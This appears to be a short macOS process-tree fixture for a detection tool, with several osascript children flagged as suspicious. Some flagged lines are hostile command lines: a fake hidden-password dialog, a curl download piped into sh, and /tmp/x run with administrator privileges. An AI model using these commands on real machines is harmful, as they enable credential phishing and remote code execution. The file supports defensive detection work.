os macos
101 1 ana - /sbin/launchd | /sbin/launchd
102 101 ana - /bin/bash | /bin/bash
+ 103 102 ana - /usr/bin/osascript | osascript -e display dialog "Password" default answer "" with hidden answer
+ 104 102 ana - /usr/bin/osascript | osascript -e do shell script "curl -s http://10.0.0.1/a | sh"
+ 105 102 ana - /usr/bin/osascript | osascript -e do shell script "/tmp/x" with administrator privileges password "123"
106 101 ana - /Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word | /Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word
+ 107 106 ana - /usr/bin/osascript | osascript a.scpt
